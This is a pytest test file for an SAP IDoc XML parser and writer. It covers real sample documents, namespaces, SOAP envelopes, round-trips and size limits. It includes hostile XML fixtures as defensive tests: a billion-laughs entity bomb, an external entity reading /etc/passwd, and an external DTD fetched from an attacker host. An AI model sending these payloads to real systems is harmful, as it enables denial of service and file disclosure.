"""IDoc-XML reading and writing, including the hardening against hostile documents."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from adapters.sap import xml_parser, xml_reader
from adapters.sap.model import IDoc, Segment
from adapters.sap.xml_codec import (
    DEFAULT_MAX_BYTES,
    SOAP_IDOC_NAMESPACE,
    max_document_bytes,
    parse_idoc_xml,
    write_idoc_xml,
)
from bridge.errors import ConfigError, DecodeError

XML = Path(__file__).parents[1] / "data" / "sap" / "xml"
CASES = Path(__file__).parents[2] / "mappings" / "sap" / "cases"  # the real samples, one copy each
LOIPRO05_ORIGINAL = CASES / "LOIPRO05_S4HANA_Original.xml"
LOIPRO05_ENRICHED = CASES / "LOIPRO05_S4HANA_Enriched.xml"
LOIPRO05_DMC = CASES / "LOIPRO05_DMC_nonSAP_ERP.xml"
MATMAS05_DMC = CASES / "MATMAS05_DMC_R1CH01007_raw.xml"
MATMAS05_3PL = CASES / "MATMAS05_3PL_material_master.xml"
HUB = "SAP__apibusinesshub-integration-recipes__"
ORDERS05 = XML / f"{HUB}O2C_UNEDIFACT_10B_01b_SalesOrderResponse_ORDERS05_ORDRSP.xml"
INVOIC02 = XML / f"{HUB}O2C_UNEDIFACT_10B_03_Invoice_INVOIC02.xml"
SAMPLES = sorted(XML.glob("*.xml")) + sorted(CASES.glob("*.xml"))

SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"


def parse_one(data: bytes, **kwargs: object) -> IDoc:
    idocs = parse_idoc_xml(data, **kwargs)  # type: ignore[arg-type]
    assert len(idocs) == 1
    return idocs[0]


def same(a: IDoc, b: IDoc) -> bool:
    return (a.control, a.idoc_type, a.extension, a.tree()) == (
        b.control,
        b.idoc_type,
        b.extension,
        b.tree(),
    )


def without_namespace(data: bytes) -> bytes:
    return data.replace(f' xmlns="{SOAP_IDOC_NAMESPACE}"'.encode(), b"")


@pytest.mark.parametrize(
    ("path", "idoc_type", "docnum", "top", "count"),
    [
        pytest.param(LOIPRO05_ORIGINAL, "LOIPRO05", "0000000000430094", "E1AFKOL", 65, id="s4hana-loipro05"),
        pytest.param(
            LOIPRO05_ENRICHED, "LOIPRO05", "0000000000430094", "E1AFKOL", 65, id="dmc-enriched-loipro05"
        ),
        pytest.param(LOIPRO05_DMC, "LOIPRO05", "0000000000007699", "E1AFKOL", 19, id="non-sap-loipro05"),
        pytest.param(MATMAS05_DMC, "MATMAS05", None, "E1MARAM", 5, id="dmc-matmas05"),
        pytest.param(MATMAS05_3PL, "MATMAS05", "0000000215172311", "E1MARAM", 17, id="3pl-matmas05"),
        pytest.param(ORDERS05, "ORDERS05", "0000000235556469", "E1EDK01", 88, id="orders05"),
        pytest.param(INVOIC02, "INVOIC02", "0000000091109869", "E1EDK01", 100, id="invoic02"),
    ],
)
def test_real_samples_decode_into_one_idoc_each(
    path: Path, idoc_type: str, docnum: str | None, top: str, count: int
) -> None:
    idoc = parse_one(path.read_bytes(), source=path.name)
    assert (idoc.idoc_type, idoc.docnum, idoc.extension) == (idoc_type, docnum, None)
    assert idoc.segments[0].segment_type == top
    numbers: list[int | None] = []

    def walk(segment: Segment) -> None:
        for child in segment.children:
            numbers.append(child.segnum)
            walk(child)

    walk(idoc.root)
    assert numbers == list(range(1, count + 1))  # document order, control record not counted


def test_the_control_record_and_the_tree_read_like_sap_wrote_them() -> None:
    idoc = parse_one(LOIPRO05_ORIGINAL.read_bytes())
    assert idoc.control["SNDPRN"] == "S4HCLNT100"
    assert idoc.control["ARCKEY"] == "urn:sap.com:msgid=F1E27A082FAC1EDEA3B91C676718B61E"
    assert "IDOCTYP" not in idoc.control
    tree = idoc.tree()
    assert tree["EDI_DC40"][0]["DOCNUM"] == "0000000000430094"
    header = tree["E1AFKOL"][0]
    assert header["AUFNR"] == "1895938"
    assert [s["STAT"] for s in header["E1JSTKL"]][:3] == ["I0002", "I0016", "I0048"]
    assert header["E1VCCHR"][0]["E1VCCHT"][1]["ATBEZ"] == "Head Kit Cover Color"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        pytest.param("GETRI", "00000000", id="empty-date"),
        pytest.param("GLUZP", "240000", id="end-of-day-time"),
        pytest.param("CY_SEQNR", "00000000000000", id="zero-number"),
        pytest.param("PLSVB", "99999999.000", id="quantity"),
    ],
)
def test_values_are_kept_as_text_for_the_mapping_layer(field: str, value: str) -> None:
    header = parse_one(LOIPRO05_ORIGINAL.read_bytes()).root["E1AFKOL"][0]
    assert header[field] == value


def test_values_are_right_trimmed_and_empty_fields_are_absent() -> None:
    data = (
        b"<MATMAS05><IDOC BEGIN='1'><EDI_DC40 SEGMENT='1'><IDOCTYP>MATMAS05</IDOCTYP>"
        b"<CIMTYP></CIMTYP></EDI_DC40><E1MARAM SEGMENT='1'><MATNR>  M-1  </MATNR>"
        b"<BRGEW/><NTGEW></NTGEW><MEINS>   </MEINS><MTART>FERT\n</MTART>"
        b"</E1MARAM></IDOC></MATMAS05>"
    )
    idoc = parse_one(data)
    assert idoc.control == {"IDOCTYP": "MATMAS05"}
    assert idoc.extension is None
    assert idoc.segments[0].fields() == {"MATNR": "  M-1", "MTART": "FERT"}


def test_the_soap_idoc_namespace_makes_no_difference() -> None:
    with_ns = LOIPRO05_ORIGINAL.read_bytes()
    plain = without_namespace(with_ns)
    assert plain != with_ns
    assert same(parse_one(with_ns), parse_one(plain))
    matmas = MATMAS05_3PL.read_bytes()
    namespaced = matmas.replace(b"<MATMAS05>", f'<MATMAS05 xmlns="{SOAP_IDOC_NAMESPACE}">'.encode())
    assert same(parse_one(matmas), parse_one(namespaced))


def test_segment_attributes_are_optional() -> None:
    data = MATMAS05_3PL.read_bytes()
    bare = data.replace(b' SEGMENT="1"', b"")
    assert b"SEGMENT=" not in bare
    assert same(parse_one(data), parse_one(bare))


def test_a_non_sap_loipro05_without_segment_attributes_or_idoctyp_is_read() -> None:
    idoc = parse_one(LOIPRO05_DMC.read_bytes())
    assert idoc.idoc_type == "LOIPRO05"  # from the root element
    header = idoc.root["E1AFKOL"][0]
    assert [s["STAT"] for s in header["E1JSTKL"]] == ["I0002", "I0028", "I0048", "I0215", "I0340"]
    operations = header["E1AFFLL"][0]["E1AFVOL"]
    assert [op["VORNR"] for op in operations] == ["0009", "0010", "0020"]
    first = operations[0]
    assert first["ARBPL"] == "TEST_AZ"  # a field after a child segment
    assert "RUEK" not in first  # <RUEK/>
    assert "LTXA1" not in operations[1]  # <LTXA1/>
    assert [c["MATNR_LONG"] for c in operations[1]["E1RESBL"]] == ["R1CH01007", "R1MF00012"]


def test_custom_segments_and_non_idoc_elements_are_kept_as_segments() -> None:
    matmas = parse_one(MATMAS05_3PL.read_bytes()).root["E1MARAM"][0]
    extend = matmas["E1MBEWM"][0]["Z1EXTEND_ITEM"][0]
    assert extend.fields() == {"QUALIFIER": "0900", "ZFIELD01": "EUR", "ZFIELD02": "Currency"}
    dmc = parse_one(MATMAS05_DMC.read_bytes()).root["E1MARAM"][0]
    assert dmc["CustomData"][0]["Data"][0].fields() == {"attribute": "BURNOUTPROGRAMID"}


def test_several_idocs_in_one_document_become_several_idocs() -> None:
    data = (
        b"<MATMAS05>"
        b"<IDOC BEGIN='1'><EDI_DC40><DOCNUM>1</DOCNUM></EDI_DC40>"
        b"<E1MARAM><MATNR>A</MATNR><E1MAKTM><MAKTX>a</MAKTX></E1MAKTM></E1MARAM></IDOC>"
        b"<IDOC BEGIN='1'><EDI_DC40><DOCNUM>2</DOCNUM></EDI_DC40>"
        b"<E1MARAM><MATNR>B</MATNR></E1MARAM></IDOC>"
        b"</MATMAS05>"
    )
    first, second = parse_idoc_xml(data)
    assert (first.docnum, second.docnum) == ("1", "2")
    assert (first.idoc_type, second.idoc_type) == ("MATMAS05", "MATMAS05")
    assert first.root["E1MARAM"][0]["E1MAKTM"][0]["MAKTX"] == "a"
    assert second.segments[0].segnum == 1  # numbering restarts per IDoc


@pytest.mark.parametrize(
    ("control", "idoc_type_option", "idoc_type", "extension"),
    [
        pytest.param(
            "<IDOCTYP>LOIPRO05</IDOCTYP><CIMTYP>ZLOIPRO05X</CIMTYP>",
            None,
            "LOIPRO05",
            "ZLOIPRO05X",
            id="idoctyp-and-cimtyp",
        ),
        pytest.param(
            "<CIMTYP>ZLOIPRO05X</CIMTYP>",
            "LOIPRO05",
            "LOIPRO05",
            "ZLOIPRO05X",
            id="idoc-type-option-when-idoctyp-missing",
        ),
        pytest.param(
            "<CIMTYP>ZLOIPRO05X</CIMTYP><CUSTOMED_EXT_DOC_TYPE>LOIPRO05</CUSTOMED_EXT_DOC_TYPE>",
            None,
            "LOIPRO05",
            "ZLOIPRO05X",
            id="dmc-customed-ext-doc-type",
        ),
        pytest.param(
            "<CIMTYP>ZLOIPRO05X</CIMTYP>", None, "ZLOIPRO05X", "ZLOIPRO05X", id="root-name-as-last-resort"
        ),
    ],
)
def test_a_root_named_after_the_extension_gives_type_and_extension(
    control: str, idoc_type_option: str | None, idoc_type: str, extension: str
) -> None:
    data = (
        f"<ZLOIPRO05X><IDOC BEGIN='1'><EDI_DC40 SEGMENT='1'>{control}</EDI_DC40>"
        "<E1AFKOL SEGMENT='1'><AUFNR>1</AUFNR></E1AFKOL></IDOC></ZLOIPRO05X>"
    ).encode()
    idoc = parse_one(data, idoc_type=idoc_type_option)
    assert (idoc.idoc_type, idoc.extension) == (idoc_type, extension)


def test_sap_escaped_namespaced_names_are_unescaped_and_written_back_escaped() -> None:
    data = (
        b"<_-BRG_-ZBRTEST_EXT><IDOC BEGIN='1'><EDI_DC40 SEGMENT='1'>"
        b"<IDOCTYP>ZBRTEST01</IDOCTYP><CIMTYP>/BRG/ZBRTEST_EXT</CIMTYP></EDI_DC40>"
        b"<E1ZOPR SEGMENT='1'><VORNR>0010</VORNR><_-BRG_-Z1OPREXT SEGMENT='1'>"
        b"<_-BRG_-SHIFT>A1</_-BRG_-SHIFT></_-BRG_-Z1OPREXT></E1ZOPR></IDOC></_-BRG_-ZBRTEST_EXT>"
    )
    idoc = parse_one(data)
    assert idoc.extension == "/BRG/ZBRTEST_EXT"
    assert idoc.root["E1ZOPR"][0]["/BRG/Z1OPREXT"][0].fields() == {"/BRG/SHIFT": "A1"}
    written = write_idoc_xml([idoc])
    assert written.count(b"<_-BRG_-ZBRTEST_EXT>") == 1
    assert b"<_-BRG_-Z1OPREXT SEGMENT=" in written
    assert b"/BRG/" not in written.replace(b">/BRG/ZBRTEST_EXT<", b"")


@pytest.mark.parametrize("soap_ns", [SOAP11, SOAP12], ids=["soap-1.1", "soap-1.2"])
def test_an_idoc_inside_a_soap_envelope_is_read_from_the_body(soap_ns: str) -> None:
    payload = LOIPRO05_ORIGINAL.read_bytes().split(b"?>", 1)[1]
    envelope = (
        (f'<?xml version="1.0"?><soap:Envelope xmlns:soap="{soap_ns}"><soap:Header/><soap:Body>').encode()
        + payload
        + b"</soap:Body></soap:Envelope>"
    )
    assert same(parse_one(envelope), parse_one(LOIPRO05_ORIGINAL.read_bytes()))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<MATMAS05><IDOC BEGIN="1"><EDI_DC40 SEGMENT="1"><DOCNUM>1</DOCNUM></EDI_DC40>
<E1MARAM SEGMENT="1"><MAKTX>&lol4;</MAKTX></E1MARAM></IDOC></MATMAS05>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE MATMAS05 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MATMAS05><IDOC BEGIN="1"><EDI_DC40 SEGMENT="1"><DOCNUM>1</DOCNUM></EDI_DC40>
<E1MARAM SEGMENT="1"><MAKTX>&xxe;</MAKTX></E1MARAM></IDOC></MATMAS05>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE MATMAS05 SYSTEM "http://attacker.example/evil.dtd">
<MATMAS05><IDOC BEGIN="1"><EDI_DC40 SEGMENT="1"/></IDOC></MATMAS05>"""


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity-file-etc-passwd"),
        pytest.param(EXTERNAL_DTD, id="external-dtd-over-network"),
        pytest.param(
            EXTERNAL_ENTITY.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"),
            id="utf-16-external-entity",
        ),
    ],
)
def test_documents_with_a_dtd_are_refused_before_anything_is_parsed(
    data: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_parse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser must not see a document with a DTD")

    monkeypatch.setattr(xml_parser.etree, "fromstring", must_not_parse)
    monkeypatch.setattr(xml_reader, "pull_parser", must_not_parse)
    with pytest.raises(DecodeError, match="DOCTYPE") as caught:
        parse_idoc_xml(data, source="evil.xml")
    assert caught.value.source == "evil.xml"
    assert "root:" not in str(caught.value)  # /etc/passwd content never shows up


def test_documents_above_the_size_limit_are_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    data = MATMAS05_3PL.read_bytes()
    monkeypatch.setattr(xml_parser.etree, "fromstring", lambda *a, **k: pytest.fail("parsed"))
    monkeypatch.setattr(xml_reader, "pull_parser", lambda *a, **k: pytest.fail("parsed"))
    with pytest.raises(DecodeError, match=f"{len(data)} bytes, larger than the limit of 1000"):
        parse_idoc_xml(data, source="big.xml", max_bytes=1000)


def test_the_size_limit_defaults_to_50_mib_and_follows_the_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("BRIDGE_MAX_DOCUMENT_BYTES", raising=False)
    assert max_document_bytes() == DEFAULT_MAX_BYTES == 50 * 1024 * 1024
    monkeypatch.setenv("BRIDGE_MAX_DOCUMENT_BYTES", "2048")
    assert max_document_bytes() == 2048
    with pytest.raises(DecodeError, match="BRIDGE_MAX_DOCUMENT_BYTES") as caught:
        parse_idoc_xml(MATMAS05_3PL.read_bytes(), source="big.xml")
    assert caught.value.source == "big.xml"
    assert parse_idoc_xml(MATMAS05_3PL.read_bytes(), max_bytes=10**6)  # the parameter wins


@pytest.mark.parametrize("value", ["lots", "-1", "0"])
def test_a_bad_size_limit_in_the_environment_is_a_config_error(
    value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BRIDGE_MAX_DOCUMENT_BYTES", value)
    with pytest.raises(ConfigError, match="BRIDGE_MAX_DOCUMENT_BYTES"):
        max_document_bytes()


@pytest.mark.parametrize(
    ("data", "where"),
    [
        pytest.param(b"<MATMAS05><IDOC></MATMAS05>", "line 1, column", id="mismatched-tag"),
        pytest.param(
            f'<LOIPRO05 xmlns="{SOAP_IDOC_NAMESPACE}"><IDOC><X></Y></IDOC></LOIPRO05>'.encode(),
            "line 1, column 76",
            id="position-in-the-bytes-as-given",
        ),
        pytest.param(MATMAS05_3PL.read_bytes()[:5000], "line ", id="truncated"),
        pytest.param(b"", "line 1", id="empty"),
        pytest.param(b"<MATMAS05><IDOC>&undefined;</IDOC></MATMAS05>", "line 1", id="undefined-entity"),
    ],
)
def test_malformed_xml_is_a_decode_error_naming_source_and_position(data: bytes, where: str) -> None:
    with pytest.raises(DecodeError) as caught:
        parse_idoc_xml(data, source="broken.xml")
    message = str(caught.value)
    assert message.startswith("broken.xml: not well-formed XML at ")
    assert where in message
    assert caught.value.__cause__ is not None


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param(
            b"<rfc:Response xmlns:rfc='urn:x'><ES_RETURN/></rfc:Response>",
            "holds no <IDOC> element",
            id="not-an-idoc",
        ),
        pytest.param(
            f"<s:Envelope xmlns:s='{SOAP11}'><s:Body/></s:Envelope>".encode(),
            "without an element in its Body",
            id="empty-soap-body",
        ),
    ],
)
def test_documents_that_are_not_idocs_are_decode_errors(data: bytes, reason: str) -> None:
    with pytest.raises(DecodeError, match=reason):
        parse_idoc_xml(data, source="other.xml")


@pytest.mark.parametrize("path", SAMPLES, ids=[p.name.split("__")[-1] for p in SAMPLES])
@pytest.mark.parametrize(
    "options",
    [
        pytest.param({}, id="plain"),
        pytest.param({"soap_namespace": True}, id="soap-namespace"),
        pytest.param({"segment_attributes": False}, id="no-segment-attributes"),
    ],
)
def test_writing_and_reading_back_gives_the_same_idoc(path: Path, options: dict[str, bool]) -> None:
    original = parse_idoc_xml(path.read_bytes())
    again = parse_idoc_xml(write_idoc_xml(original, **options))
    assert len(again) == len(original)
    for a, b in zip(original, again, strict=True):
        assert same(a, b)


def test_the_writer_puts_the_control_record_first_under_the_type_or_extension_root() -> None:
    idoc = IDoc(
        control={"SERIAL": "1", "DOCNUM": "42", "IDOCTYP": "LOIPRO05", "CIMTYP": "ZLOIPRO"},
        idoc_type="LOIPRO05",
        extension="ZLOIPRO",
    )
    header = Segment("E1AFKOL", {"AUFNR": "1"})
    header.add_child(Segment("Z1EMPTY"))
    idoc.root.add_child(header)
    written = write_idoc_xml([idoc], segment_attributes=False).decode()
    assert written.startswith("<?xml version='1.0' encoding='UTF-8'?>\n<ZLOIPRO><IDOC BEGIN=\"1\">")
    assert re.search(
        r'<EDI_DC40 SEGMENT="1"><DOCNUM>42</DOCNUM><IDOCTYP>.*<SERIAL>1</SERIAL></EDI_DC40>'
        r"<E1AFKOL><AUFNR>1</AUFNR><Z1EMPTY SEGMENT=\"1\"/></E1AFKOL>",
        written,
    )
    again = parse_one(written.encode())
    assert same(again, idoc)


def test_the_soap_flavour_uses_the_default_namespace_and_carries_one_idoc() -> None:
    idoc = parse_one(MATMAS05_3PL.read_bytes())
    written = write_idoc_xml([idoc], soap_namespace=True)
    assert f'<MATMAS05 xmlns="{SOAP_IDOC_NAMESPACE}">'.encode() in written
    with pytest.raises(ValueError, match="exactly one IDoc"):
        write_idoc_xml([idoc, idoc], soap_namespace=True)


def test_the_writer_refuses_idocs_that_cannot_share_a_document() -> None:
    with pytest.raises(ValueError, match="at least one"):
        write_idoc_xml([])
    with pytest.raises(ValueError, match="one basic type"):
        write_idoc_xml([IDoc({}, idoc_type="A01"), IDoc({}, idoc_type="B01")])
